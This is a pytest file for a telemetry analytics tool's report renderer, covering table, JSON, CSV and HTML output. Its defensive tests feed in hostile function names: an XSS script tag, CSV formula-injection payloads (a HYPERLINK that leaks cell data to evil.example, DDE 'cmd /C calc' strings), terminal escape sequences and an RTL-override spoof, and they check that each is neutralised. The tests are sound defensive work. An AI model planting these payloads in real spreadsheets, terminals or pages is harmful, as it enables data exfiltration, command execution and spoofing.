"""Rendering: terminal tables, JSON, CSV and a self-contained HTML file checked in a real browser."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess

import fixtures
import pytest

pytest.importorskip("duckdb")

from usagetrace._internal.analytics.core import Analytics, Report, Table, build_report
from usagetrace._internal.analytics.duckdb_engine import DuckDBEngine
from usagetrace._internal.analytics.render import render


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    d = tmp_path_factory.mktemp("r")
    fixtures.write(fixtures.generate(), d)
    return build_report(Analytics(DuckDBEngine.from_path(d), package=fixtures.PKG), source=str(d))


def test_json_round_trips_report(report):
    """JSON output holds the meta and every section's rows exactly."""
    doc = json.loads(render(report, "json"))
    assert doc["meta"]["package"] == fixtures.PKG and doc["meta"]["k"] == 5
    assert doc["sections"]["feature_usage"]["rows"] == report.sections["feature_usage"].rows


def test_csv_blocks_parse_back(report):
    """Each CSV block is a '# section' line, a header and the section's rows."""
    text = render(report, "csv")
    blocks = [b for b in text.split("\n\n") if b.strip()]
    assert len(blocks) == len(report.sections)
    first = blocks[1].splitlines()
    assert first[0] == "# feature_usage"
    assert first[1] == "# " + report.sections["feature_usage"].hidden  # the rare function, left out
    rows = list(csv.DictReader(io.StringIO("\n".join(first[2:]))))
    assert [r["function"] for r in rows] == [r["function"] for r in report.sections["feature_usage"].rows]
    assert int(rows[0]["calls"]) == report.sections["feature_usage"].rows[0]["calls"]


def test_table_is_aligned_and_readable(report):
    """Terminal output has a title, an underlined header and right-aligned numbers; ratios as percentages."""
    text = render(report, "table")
    assert "Feature usage\n=============" in text
    line = next(ln for ln in text.splitlines() if ln.startswith("mypkg.core.Model.predict"))
    assert "100.0%" in line
    header = next(ln for ln in text.splitlines() if ln.startswith("function "))
    assert header.index("calls") < header.index("installs")


def test_unknown_format_is_rejected(report):
    """An unknown format raises a ValueError naming the choices."""
    with pytest.raises(ValueError, match="table, json, csv, html"):
        render(report, "xml")


def test_html_escapes_telemetry_text():
    """Names from telemetry are escaped in HTML (no markup injection through a function name)."""
    evil = "<script>alert(1)</script>"
    r = Report({"package": evil, "k": 5, "warnings": []},
               {"feature_usage": Table("feature_usage", "Feature usage", ["function", "installs"],
                                       [{"function": evil, "installs": 9}])})
    out = render(r, "html")
    assert "<script>" not in out and "&lt;script&gt;" in out


@pytest.mark.parametrize("most", [1, 2, 3, 7, 10, 11, 999])
def test_html_count_charts_have_integer_ticks_and_plurals(most):
    """Install counts: y-axis ticks are distinct integers from 0 covering the data, and 1 install is singular."""
    import re

    adoption = [{"period": "2026-01-0%d" % d, "version": "1.0", "installs": n} for d, n in ((1, 1), (2, most))]
    r = Report({"package": "p", "k": 1, "warnings": []}, {
        "overview": Table("overview", "Overview", ["installs", "sessions", "calls", "error_rate"],
                          [{"installs": 1, "sessions": 1, "calls": most, "error_rate": 0.0,
                            "first_seen": "2026-01-01", "last_seen": "2026-01-02"}]),
        "feature_usage": Table("feature_usage", "Feature usage", ["function", "installs"],
                               [{"function": "p.f", "installs": 1}, {"function": "p.g", "installs": most}]),
        "adoption": Table("adoption", "Adoption", ["period", "version", "installs"], adoption),
    })
    out = render(r, "html")
    chart = out[out.index('id="chart-adoption"'):]
    chart = chart[:chart.index("</svg>")]
    ticks = [t.replace(",", "") for t in re.findall(r'text-anchor="end" class="cv">([^<]*)<', chart)]
    assert all(t.isdigit() for t in ticks), ticks
    values = [int(t) for t in ticks]
    assert values == sorted(set(values)) and values[0] == 0 and values[-1] >= most and len(values) <= 6
    assert ">1 install<" in out and not re.search(r"(?<![\d,])1 installs", out)
    assert f"{most:,} install{'' if most == 1 else 's'}" in out
    assert "<b>1</b> install ·" in out and "<b>1</b> session ·" in out
    assert f"<b>{most:,}</b> call{'' if most == 1 else 's'} ·" in out


def test_html_is_self_contained(report):
    """The HTML file references nothing outside itself (no scripts, stylesheets or images to fetch)."""
    out = render(report, "html")
    assert "<script" not in out.lower()
    assert "http://" not in out.replace("http://www.w3.org/2000/svg", "") and "https://" not in out
    assert out.count("<svg") == 3


CHROMIUM = shutil.which("chromium") or ("/usr/bin/chromium" if os.path.exists("/usr/bin/chromium") else None)


def _chromium(args: list[str], profile: str) -> subprocess.CompletedProcess[str]:
    base = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
            "--disable-component-update", "--no-first-run", f"--user-data-dir={profile}"]
    return subprocess.run(base + args, capture_output=True, text=True, timeout=120, check=False)


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="Debian chromium is not installed")
def test_html_renders_in_headless_chromium(report, tmp_path):
    """Chromium renders the file offline: the screenshot is produced and the DOM holds the three SVG charts."""
    page = tmp_path / "report.html"
    page.write_text(render(report, "html"), encoding="utf-8")
    shot = tmp_path / "shot.png"
    res = _chromium(["--window-size=1200,1600", f"--screenshot={shot}", page.as_uri()], str(tmp_path / "p1"))
    assert shot.exists(), res.stderr[-2000:]
    data = shot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 20_000  # a blank page compresses to a few KB
    dom = _chromium(["--dump-dom", page.as_uri()], str(tmp_path / "p2")).stdout
    for chart in ("chart-features", "chart-adoption", "chart-errors"):
        assert f'id="{chart}"' in dom
    assert dom.count("<rect class=\"bar\"") >= len(report.sections["feature_usage"].rows)
    assert dom.count("<polyline") >= 2
    if os.environ.get("USAGETRACE_KEEP_SCREENSHOT"):
        shutil.copy(shot, os.environ["USAGETRACE_KEEP_SCREENSHOT"])


# --- hostile data: anyone who can reach a public endpoint chooses these strings ---------------

HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")": "'=HYPERLINK",
    "+cmd|' /C calc'!A0": "'+cmd|",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
    "\tTAB=1+1": "'\ufffdTAB",
    "\rCR=1+1": "'\ufffdCR",
    "mypkg.\x1b]0;owned title\x07f": "mypkg.f",
    "mypkg.\x1b[2J\x1b[31mred": "mypkg.red",
    "mypkg.\u202egnp.exe": "mypkg.\ufffdgnp.exe",
}


def _hostile_file(tmp_path, names=HOSTILE, installs=6):
    """Metric lines as a hostile client could send them past a collector that does not mask names."""
    day = fixtures.ns(__import__("datetime").date(2026, 11, 2))
    lines = []
    for i in range(installs):
        points = [{"attributes": [fixtures._kv("code.function.name", n), fixtures._kv("usagetrace.outcome", "ok")],
                   "startTimeUnixNano": str(day), "timeUnixNano": str(day + 10**9), "asInt": "3"} for n in names]
        lines.append(json.dumps({"resourceMetrics": [{
            "resource": {"attributes": [fixtures._kv("service.name", "hpkg"),
                                        fixtures._kv("usagetrace.install.id", f"inst-{i}")]},
            "scopeMetrics": [{"scope": {"name": "usagetrace"}, "metrics": [{
                "name": "usagetrace.calls",
                "sum": {"aggregationTemporality": 1, "isMonotonic": True, "dataPoints": points}}]}]}]}))
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(lines) + "\n")
    return path


def _hostile_report(tmp_path):
    path = _hostile_file(tmp_path)
    return build_report(Analytics(DuckDBEngine.from_path(path), package="hpkg"), source=str(path))


def test_csv_neutralises_formulas_and_controls(tmp_path):
    """Cells starting with = + - @ tab or CR get a leading ' (OWASP); no control character is written."""
    text = render(_hostile_report(tmp_path), "csv")
    rows = list(csv.reader(io.StringIO(text)))
    functions = {r[0] for r in rows if r and not r[0].startswith("#")}
    for name, start in HOSTILE.items():
        if start.startswith("'"):
            assert any(f.startswith(start) for f in functions), (name, functions)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert not any(ch in text for ch in "\x1b\x07\x9b\r\t\u202e")


def test_terminal_table_strips_escape_sequences(tmp_path):
    """The terminal table shows no escape sequence or control character; the names stay readable."""
    text = render(_hostile_report(tmp_path), "table")
    assert not any(ch in text for ch in "\x1b\x07\x9b\r\t\u202e\x00")
    for shown in ("mypkg.f", "mypkg.red", "mypkg.\ufffdgnp.exe"):
        assert shown in text, shown
    assert "owned title" not in text  # the OSC payload (a window title) is removed with its sequence


def test_report_cli_warnings_are_terminal_safe(tmp_path, capsys):
    """A warning naming a bad line (its file name is the operator's, its reason the data's) carries no escapes."""
    from usagetrace._internal.analytics import cli

    path = _hostile_file(tmp_path, installs=5)
    with open(path, "a") as fh:
        fh.write('{"resourceSpans": "\x1b]0;owned\x07"}\n')
    assert cli.main([str(path), "--package", "hpkg", "--k", "1", "--no-cache"]) == 0
    out, err = capsys.readouterr()
    assert ":6:" in err and "\x1b" not in err and "\x1b" not in out
